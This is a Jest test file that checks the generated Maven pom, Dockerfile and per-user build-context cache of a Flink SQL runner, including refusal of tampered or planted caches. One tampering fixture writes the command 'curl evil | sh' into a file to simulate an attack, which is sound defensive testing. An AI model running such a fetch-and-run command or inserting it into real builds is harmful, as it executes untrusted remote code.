import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { JavaVersion } from '../../lib/catalog/java-version';
import { coordinateId } from '../../lib/catalog/maven-coordinate';
import { resolveArtifacts } from '../../lib/catalog/resolve-artifacts';
import { ResolvedArtifacts } from '../../lib/catalog/resolved-artifacts';
import { FlinkVersion } from '../../lib/definition/flink-version';
import { Flavor } from '../../lib/flavor';
import { runnerBuildFiles, writeRunnerBuildContext } from '../../lib/artifacts/runner-build-context';
import { renderRunnerDockerfile, runnerBuildImage } from '../../lib/artifacts/runner-dockerfile';
import { renderRunnerPom } from '../../lib/artifacts/runner-pom';
import { DUPLICATE_CLASS_IGNORES } from '../../lib/artifacts/runner-pom-enforcer';
import { BUILD_TOOLS } from '../../lib/catalog/artifact-catalog';
import { SQL_RUNNER_MAIN_CLASS } from '../../lib/artifacts/sql-runner-contract';

function artifacts(version: FlinkVersion, flavors: readonly Flavor[], pins = {}): ResolvedArtifacts {
  return resolveArtifacts({ subject: 'pipeline "orders"', flinkVersion: version, flavors, writesIceberg: version !== FlinkVersion.V2_2, pins });
}

/** `groupId:artifactId:version (scope)` of every <dependency> of a pom, in order. */
function pomDependencies(pom: string): string[] {
  return [...pom.matchAll(/<dependency>\s*<groupId>([^<]+)<\/groupId>\s*<artifactId>([^<]+)<\/artifactId>\s*<version>([^<]+)<\/version>\s*<scope>([^<]+)<\/scope>/g)]
    .map((m) => `${m[1]}:${m[2]}:${m[3]} (${m[4]})`);
}

const CASES: Array<[string, FlinkVersion, readonly Flavor[]]> = [
  ['1.19 on both flavors', FlinkVersion.V1_19, Flavor.ALL],
  ['1.20 on both flavors', FlinkVersion.V1_20, Flavor.ALL],
  ['1.20 self-hosted', FlinkVersion.V1_20, [Flavor.SELF_HOSTED]],
  ['2.0 self-hosted', FlinkVersion.V2_0, [Flavor.SELF_HOSTED]],
  ['2.1 self-hosted', FlinkVersion.V2_1, [Flavor.SELF_HOSTED]],
  ['2.2 on both flavors (no Iceberg)', FlinkVersion.V2_2, Flavor.ALL],
];

describe('generated pom.xml', () => {
  test.each(CASES)('%s: exactly the resolved coordinates, scopes and Java release', (_name, version, flavors) => {
    const a = artifacts(version, flavors);
    const pom = renderRunnerPom(a);
    expect(pomDependencies(pom)).toEqual([...a.providedDependencies, ...a.dependencies].map((d) => `${coordinateId(d)} (${d.scope})`));
    expect(pom.split('<build>')[0].match(/<dependency>/g)?.length).toBe(a.providedDependencies.length + a.dependencies.length);
    expect(pom).toContain(`<maven.compiler.release>${a.runnerJava.release}</maven.compiler.release>`);
    expect(pom).toContain(`<flink.version>${a.flinkPatch}</flink.version>`);
  });

  const pom = renderRunnerPom(artifacts(FlinkVersion.V1_20, Flavor.ALL));

  test('the Java release is the lowest runtime Java of the flavors (11 with MSF 1.20, 17 self-hosted only)', () => {
    expect(pom).toContain('<maven.compiler.release>11</maven.compiler.release>');
    expect(renderRunnerPom(artifacts(FlinkVersion.V1_20, [Flavor.SELF_HOSTED]))).toContain('<maven.compiler.release>17</maven.compiler.release>');
    expect(pom).toContain('<release>${maven.compiler.release}</release>');
  });

  test('Flink APIs are provided, connectors and MSK IAM bundled', () => {
    expect(pomDependencies(pom)).toEqual(expect.arrayContaining([
      'org.apache.flink:flink-table-api-java:1.20.4 (provided)',
      'org.apache.flink:flink-connector-kafka:3.4.0-1.20 (compile)',
      'software.amazon.msk:aws-msk-iam-auth:2.3.4 (compile)',
      'org.apache.iceberg:iceberg-flink-runtime-1.20:1.10.2 (compile)',
      'org.apache.iceberg:iceberg-aws-bundle:1.10.2 (compile)',
    ]));
  });

  test('shading merges service files and relocates nothing of Kafka, the connector or MSK IAM', () => {
    expect(pom).toContain('<artifactId>maven-shade-plugin</artifactId>\n        <version>3.6.0</version>');
    expect(pom).toContain('<transformer implementation="org.apache.maven.plugins.shade.resource.ServicesResourceTransformer"/>');
    expect(pom).toContain(`<mainClass>${SQL_RUNNER_MAIN_CLASS}</mainClass>`);
    expect(pom).toContain('<finalName>sql-runner</finalName>');
    expect(pom).toContain('<exclude>org.slf4j:*</exclude>');
    const patterns = [...pom.matchAll(/<pattern>([^<]+)<\/pattern>/g)].map((m) => m[1]);
    expect(patterns.filter((p) => /kafka|software\.amazon\.msk/.test(p))).toEqual([]);
  });

  // Issue 9 item 1: CREATE CATALOG reaches Flink's HadoopUtils, loaded parent-first from a lib/ without Hadoop.
  test('CREATE CATALOG needs no Hadoop in lib/: Hadoop conf and Flink\'s HadoopUtils are relocated into the jar', () => {
    expect(pom).toMatch(/<relocation>\s*<pattern>org\.apache\.hadoop\.conf<\/pattern>\s*<shadedPattern>io\.eventpipelines\.shaded\.org\.apache\.hadoop\.conf<\/shadedPattern>/);
    expect(pom).toMatch(/<relocation>\s*<pattern>org\.apache\.flink\.runtime\.util\.HadoopUtils<\/pattern>\s*<shadedPattern>io\.eventpipelines\.sqlrunner\.hadoop\.CatalogHadoopUtils<\/shadedPattern>/);
    const files = runnerBuildFiles(artifacts(FlinkVersion.V1_20, Flavor.ALL));
    expect(files['src/main/java/io/eventpipelines/sqlrunner/hadoop/CatalogHadoopUtils.java'])
      .toContain('public static Configuration getHadoopConfiguration(org.apache.flink.configuration.Configuration flinkConfiguration)');
    // Without Iceberg there is no hadoop-common to compile the stand-in against, and nothing to relocate.
    const noIceberg = artifacts(FlinkVersion.V2_2, Flavor.ALL);
    expect(renderRunnerPom(noIceberg)).toContain('<relocations/>');
    expect(Object.keys(runnerBuildFiles(noIceberg)).filter((f) => f.includes('/hadoop/'))).toEqual([]);
  });

  test('hadoop-common leaves logging to the runtime and Avro to the formats (as AWS\'s MSF samples exclude them)', () => {
    expect(pom).toMatch(/<artifactId>hadoop-common<\/artifactId>\s*<version>3\.4\.1<\/version>\s*<scope>compile<\/scope>\s*<exclusions>\s*<exclusion>\s*<groupId>org\.slf4j<\/groupId>\s*<artifactId>\*<\/artifactId>/);
    const hadoop = pom.slice(pom.indexOf('<artifactId>hadoop-common</artifactId>'), pom.indexOf('</dependency>', pom.indexOf('<artifactId>hadoop-common</artifactId>')));
    for (const group of ['ch.qos.reload4j', 'ch.qos.logback', 'org.apache.avro']) expect(hadoop).toContain(`<groupId>${group}</groupId>`);
  });

  test('is well-formed: every opened element is closed', () => {
    const withoutComments = pom.replace(/<!--[\s\S]*?-->/g, '').replace(/<\?xml[^>]*\?>/, '');
    const stack: string[] = [];
    for (const m of withoutComments.matchAll(/<(\/?)([a-zA-Z][\w.-]*)[^>]*?(\/?)>/g)) {
      if (m[3] === '/') continue;
      if (m[1] === '/') expect(stack.pop()).toBe(m[2]);
      else stack.push(m[2]);
    }
    expect(stack).toEqual([]);
  });
});

/** The instructions of each stage of a Dockerfile, by stage (`FROM` line first). */
function stages(dockerfile: string): string[][] {
  const result: string[][] = [];
  for (const line of dockerfile.split('\n').filter((l) => l.trim() !== '' && !l.startsWith('#'))) {
    if (line.startsWith('FROM ')) result.push([line]);
    else result[result.length - 1].push(line);
  }
  return result;
}

describe('generated Dockerfile', () => {
  test.each(CASES)('%s: FROM the resolved, tagged Flink image (build platform for the check, target platform for the image)', (_name, version, flavors) => {
    const a = artifacts(version, flavors);
    const dockerfile = renderRunnerDockerfile(a);
    const froms = [...dockerfile.matchAll(/^FROM (--platform=\$BUILDPLATFORM )?(\S+)/gm)].map((m) => `${m[1] ?? ''}${m[2]}`);
    expect(froms).toEqual([`--platform=$BUILDPLATFORM ${runnerBuildImage(a)}`, `--platform=$BUILDPLATFORM ${a.selfHosted?.image}`, a.selfHosted?.image]);
    expect(a.selfHosted?.image).toMatch(/^flink:\d+\.\d+\.\d+-scala_2\.12-java\d+$/);
    expect(dockerfile).toContain(`COPY --from=distribution --chown=flink:flink /opt/flink/opt/flink-s3-fs-presto-${a.flinkPatch}.jar /opt/flink/plugins/s3-fs-presto/flink-s3-fs-presto-${a.flinkPatch}.jar`);
  });

  // Issue 9 item 8: a RUN in the linux/arm64 stage needs QEMU on an x86 builder.
  test.each([false, true])('the image stage runs nothing: it only copies (check %s)', (check) => {
    const image = stages(renderRunnerDockerfile(artifacts(FlinkVersion.V1_20, Flavor.ALL), { check })).pop() ?? [];
    expect(image[0]).toBe('FROM flink:1.20.4-scala_2.12-java17');
    expect(image.slice(1).filter((l) => !l.startsWith('COPY --from='))).toEqual([]);
    for (const stage of stages(renderRunnerDockerfile(artifacts(FlinkVersion.V1_20, Flavor.ALL), { check })).slice(0, -1)) {
      expect(stage[0]).toMatch(/^FROM --platform=\$BUILDPLATFORM /);
    }
  });

  test('builds with Maven, then adds only the runner jar and the S3 plugin to the image', () => {
    const dockerfile = renderRunnerDockerfile(artifacts(FlinkVersion.V1_20, Flavor.ALL));
    expect(dockerfile).toBe(`# Generated from the version catalog (lib/catalog) for Flink 1.20.4: do not edit.
# Every RUN is on the builder's own platform; the image stage only copies (no emulation for arm64 images).
FROM --platform=$BUILDPLATFORM maven:3.9.9-eclipse-temurin-17 AS build
WORKDIR /build
COPY pom.xml .
RUN mvn -B -ntp dependency:go-offline
COPY src ./src
RUN mvn -B -ntp package -DskipTests

FROM --platform=$BUILDPLATFORM flink:1.20.4-scala_2.12-java17 AS distribution
COPY --from=build /build/target/sql-runner.jar /opt/flink/usrlib/sql-runner.jar
# The pods' metrics come from Flink's Prometheus reporter plugin, part of the official image: fail here if it is not.
RUN test -f /opt/flink/plugins/metrics-prometheus/flink-metrics-prometheus-1.20.4.jar || { echo "/opt/flink/plugins/metrics-prometheus/flink-metrics-prometheus-1.20.4.jar is missing from flink:1.20.4-scala_2.12-java17: the Flink pods would expose no metrics" >&2; exit 1; }

FROM flink:1.20.4-scala_2.12-java17
COPY --from=distribution --chown=flink:flink /opt/flink/opt/flink-s3-fs-presto-1.20.4.jar /opt/flink/plugins/s3-fs-presto/flink-s3-fs-presto-1.20.4.jar
COPY --from=distribution --chown=flink:flink /opt/flink/usrlib/sql-runner.jar /opt/flink/usrlib/sql-runner.jar
`);
  });

  test('with the check, the job\'s own Flink image runs the runner\'s --check on the build platform, and the image takes the checked jar', () => {
    const [build, distribution, image] = stages(renderRunnerDockerfile(artifacts(FlinkVersion.V1_20, Flavor.ALL), { check: true }));
    expect(build[0]).toContain(' AS build');
    expect(distribution).toEqual([
      'FROM --platform=$BUILDPLATFORM flink:1.20.4-scala_2.12-java17 AS distribution',
      'COPY --from=build /build/target/sql-runner.jar /opt/flink/usrlib/sql-runner.jar',
      'RUN test -f /opt/flink/plugins/metrics-prometheus/flink-metrics-prometheus-1.20.4.jar || { echo "/opt/flink/plugins/metrics-prometheus/flink-metrics-prometheus-1.20.4.jar is missing from flink:1.20.4-scala_2.12-java17: the Flink pods would expose no metrics" >&2; exit 1; }',
      'COPY check /opt/sql-runner-check',
      `RUN /opt/flink/bin/flink run --target local --class ${SQL_RUNNER_MAIN_CLASS} /opt/flink/usrlib/sql-runner.jar --check /opt/sql-runner-check/manifest.properties`,
    ]);
    // The jar comes from the stage that ran the check, so BuildKit cannot skip the check.
    expect(image).toContain('COPY --from=distribution --chown=flink:flink /opt/flink/usrlib/sql-runner.jar /opt/flink/usrlib/sql-runner.jar');
  });

  test('a Java 21 image builds with a Java 21 JDK', () => {
    const a = artifacts(FlinkVersion.V2_0, [Flavor.SELF_HOSTED], { selfHostedJava: JavaVersion.JAVA_21 });
    expect(runnerBuildImage(a)).toBe('maven:3.9.9-eclipse-temurin-21');
    expect(renderRunnerDockerfile(a)).toContain('FROM flink:2.0.2-scala_2.12-java21\n');
  });

  test('the build fails unless the job\'s Flink image has the Prometheus reporter plugin of its own patch (the pods\' metrics)', () => {
    const [, distribution, image] = stages(renderRunnerDockerfile(artifacts(FlinkVersion.V2_0, [Flavor.SELF_HOSTED])));
    expect(distribution.filter((line) => line.startsWith('RUN test -f /opt/flink/plugins/metrics-prometheus/flink-metrics-prometheus-2.0.2.jar || '))).toHaveLength(1);
    // Nothing to copy: the official image loads it from plugins/ as it is.
    expect(image.filter((line) => line.includes('metrics-prometheus'))).toEqual([]);
  });

  test('fails without the self-hosted flavor', () => {
    expect(() => renderRunnerDockerfile(artifacts(FlinkVersion.V1_20, [Flavor.MANAGED]))).toThrow('renderRunnerDockerfile needs artifacts resolved for the self-hosted flavor');
  });
});

describe('build context', () => {
  const a = artifacts(FlinkVersion.V1_20, Flavor.ALL);

  test('holds the generated recipe and the runner sources', () => {
    const files = runnerBuildFiles(a);
    expect(Object.keys(files)).toEqual(expect.arrayContaining(['pom.xml', 'Dockerfile', 'src/main/java/io/eventpipelines/sqlrunner/SqlRunner.java', 'src/main/java/io/eventpipelines/sqlrunner/SqlScriptSplitter.java']));
    expect(Object.keys(runnerBuildFiles(artifacts(FlinkVersion.V1_20, [Flavor.MANAGED])))).not.toContain('Dockerfile');
    expect(files['src/main/java/io/eventpipelines/sqlrunner/SqlRunner.java']).toContain(`package ${SQL_RUNNER_MAIN_CLASS.replace(/\.SqlRunner$/, '')};`);
  });

  test('is written once per content, under a content-hash name', () => {
    const parent = fs.mkdtempSync(path.join(os.tmpdir(), 'runner-context-'));
    const dir = writeRunnerBuildContext(a, { parent });
    expect(writeRunnerBuildContext(a, { parent })).toBe(dir);
    expect(fs.readFileSync(path.join(dir, 'pom.xml'), 'utf8')).toBe(renderRunnerPom(a));
    expect(fs.readFileSync(path.join(dir, 'Dockerfile'), 'utf8')).toBe(renderRunnerDockerfile(a));
    const other = writeRunnerBuildContext(artifacts(FlinkVersion.V1_20, [Flavor.SELF_HOSTED]), { parent });
    expect(other).not.toBe(dir);
    expect(fs.readdirSync(path.dirname(dir)).sort()).toEqual([path.basename(dir), path.basename(other)].sort());
  });

  test('lives in one cache per user (mode 0700, owned by the user), one directory per content, no write left behind', () => {
    const parent = fs.mkdtempSync(path.join(os.tmpdir(), 'runner-context-'));
    const dir = writeRunnerBuildContext(a, { parent });
    const root = path.dirname(dir);
    expect(path.dirname(root)).toBe(parent);
    expect(path.basename(root)).toBe(`sql-runner-build-${process.getuid?.() ?? os.userInfo().username}`);
    expect(fs.statSync(root).mode & 0o777).toBe(0o700);
    expect(fs.statSync(root).uid).toBe(process.getuid?.() ?? fs.statSync(root).uid);
    // Written under a temporary name and renamed into place: nothing but the context itself remains.
    expect(fs.readdirSync(root)).toEqual([path.basename(dir)]);
  });

  test('synths in separate processes share one directory instead of leaving one each', () => {
    const parent = fs.mkdtempSync(path.join(os.tmpdir(), 'runner-context-'));
    const dirs: string[] = [];
    for (let synth = 0; synth < 3; synth++) {
      // A fresh copy of the module per synth: what a new `cdk synth` process loads.
      jest.isolateModules(() => {
        const fresh = jest.requireActual<typeof import('../../lib/artifacts/runner-build-context')>('../../lib/artifacts/runner-build-context');
        dirs.push(fresh.writeRunnerBuildContext(a, { parent }));
      });
    }
    expect(new Set(dirs).size).toBe(1);
    expect(fs.readdirSync(parent)).toHaveLength(1);
    expect(fs.readdirSync(path.dirname(dirs[0]))).toEqual([path.basename(dirs[0])]);
  });

  test('contexts unused for the retention period are removed, recently used ones kept', () => {
    const parent = fs.mkdtempSync(path.join(os.tmpdir(), 'runner-context-'));
    const day = 24 * 3600 * 1000;
    const t0 = Date.UTC(2025, 0, 1);
    const selfHosted = artifacts(FlinkVersion.V1_20, [Flavor.SELF_HOSTED]);
    const old = writeRunnerBuildContext(a, { parent, now: () => t0 });
    const recent = writeRunnerBuildContext(selfHosted, { parent, now: () => t0 + 10 * day });
    const abandoned = path.join(path.dirname(old), '.0123456789abcdef-XXXXXX');
    fs.mkdirSync(abandoned);
    fs.utimesSync(abandoned, (t0 + 10 * day) / 1000, (t0 + 10 * day) / 1000);
    // 15 days after `old` was last used, 5 after `recent`.
    const managed = writeRunnerBuildContext(artifacts(FlinkVersion.V1_20, [Flavor.MANAGED]), { parent, now: () => t0 + 15 * day });
    expect(fs.readdirSync(path.dirname(old)).sort()).toEqual([path.basename(recent), path.basename(managed)].sort());
  });

  test.each([
    ['open to other users', (root: string) => { fs.mkdirSync(root, { mode: 0o700 }); fs.chmodSync(root, 0o777); }, 'has mode 777, open to other users'],
    ['a link to a directory someone else prepared', (root: string) => { fs.symlinkSync(fs.mkdtempSync(path.join(os.tmpdir(), 'planted-')), root); }, 'is not a directory (a link or a file)'],
  ])('a cache root %s is refused, not used', (_name, prepare, problem) => {
    const parent = fs.mkdtempSync(path.join(os.tmpdir(), 'runner-context-'));
    const root = path.join(parent, `sql-runner-build-${process.getuid?.() ?? os.userInfo().username}`);
    prepare(root);
    expect(() => writeRunnerBuildContext(a, { parent })).toThrow(`runner build-context cache ${root} ${problem}: it could hand the build a context someone else wrote — remove it (it is a cache), or point TMPDIR at a directory of your own`);
  });

  (process.getuid?.() === 0 ? test : test.skip)('a cache root owned by another user is refused (needs root to prepare)', () => {
    const parent = fs.mkdtempSync(path.join(os.tmpdir(), 'runner-context-'));
    const root = path.join(parent, 'sql-runner-build-0');
    fs.mkdirSync(root, { mode: 0o700 });
    fs.chownSync(root, 4242, 4242);
    expect(() => writeRunnerBuildContext(a, { parent })).toThrow(`runner build-context cache ${root} is owned by uid 4242, not by this user (uid 0)`);
  });

  test('a prepared context in the old shared location is not shipped', () => {
    const parent = fs.mkdtempSync(path.join(os.tmpdir(), 'runner-context-'));
    const dir = writeRunnerBuildContext(a, { parent });
    const planted = path.join(parent, 'sql-runner-build', path.basename(dir));
    fs.mkdirSync(planted, { recursive: true });
    fs.writeFileSync(path.join(planted, 'pom.xml'), '<project>evil</project>');
    expect(writeRunnerBuildContext(a, { parent })).not.toBe(planted);
  });

  test('a modified cached context is not shipped: its content is checked and written again', () => {
    const parent = fs.mkdtempSync(path.join(os.tmpdir(), 'runner-context-'));
    const dir = writeRunnerBuildContext(a, { parent });
    fs.writeFileSync(path.join(dir, 'pom.xml'), '<project><!-- edited: pulls another dependency --></project>');
    fs.writeFileSync(path.join(dir, 'extra.sh'), 'curl evil | sh');
    const again = writeRunnerBuildContext(a, { parent });
    expect(fs.readFileSync(path.join(again, 'pom.xml'), 'utf8')).toBe(renderRunnerPom(a));
    expect(fs.existsSync(path.join(again, 'extra.sh'))).toBe(false);
    expect(Object.keys(runnerBuildFiles(a)).every((rel) => fs.existsSync(path.join(again, rel)))).toBe(true);
  });
});

describe('the generated pom fails the build on mixed versions', () => {
  const a = artifacts(FlinkVersion.V1_20, Flavor.ALL);
  const pom = renderRunnerPom(a);

  test('maven-enforcer-plugin runs banDuplicateClasses (extra-enforcer-rules) and dependencyConvergence, at the catalog\'s versions', () => {
    expect(pom).toContain(`<artifactId>maven-enforcer-plugin</artifactId>\n        <version>${BUILD_TOOLS.enforcerPlugin}</version>`);
    expect(pom).toContain(`<artifactId>extra-enforcer-rules</artifactId>\n            <version>${BUILD_TOOLS.extraEnforcerRules}</version>`);
    expect(pom).toMatch(/<banDuplicateClasses>[\s\S]*<findAllDuplicates>true<\/findAllDuplicates>[\s\S]*<\/banDuplicateClasses>/);
    expect(pom).toMatch(/<dependencyConvergence>[\s\S]*<include>software.amazon.awssdk<\/include>[\s\S]*<\/dependencyConvergence>/);
  });

  test('every ignored duplicate carries its reason', () => {
    const ignores = [...pom.matchAll(/<!-- ([^>]+) -->\s*<ignoreClass>([^<]+)<\/ignoreClass>/g)];
    expect(ignores.map((m) => m[2])).toEqual(DUPLICATE_CLASS_IGNORES.map((i) => i.pattern));
    for (const m of ignores) expect(m[1].length).toBeGreaterThan(20);
    expect(pom.match(/<ignoreClass>/g)?.length).toBe(DUPLICATE_CLASS_IGNORES.length);
  });

  test('aws-msk-iam-auth brings no AWS SDK of its own next to iceberg-aws-bundle; kafka-clients is the fixed 3.9.1', () => {
    expect(pom).toMatch(/<artifactId>aws-msk-iam-auth<\/artifactId>[\s\S]*?<exclusion>\s*<groupId>software.amazon.awssdk<\/groupId>\s*<artifactId>\*<\/artifactId>\s*<\/exclusion>/);
    expect(pom).toMatch(/<artifactId>flink-connector-kafka<\/artifactId>[\s\S]*?<exclusion>\s*<groupId>org.apache.kafka<\/groupId>\s*<artifactId>kafka-clients<\/artifactId>/);
    expect(pom).toContain('<artifactId>kafka-clients</artifactId>\n      <version>3.9.1</version>');
  });
});
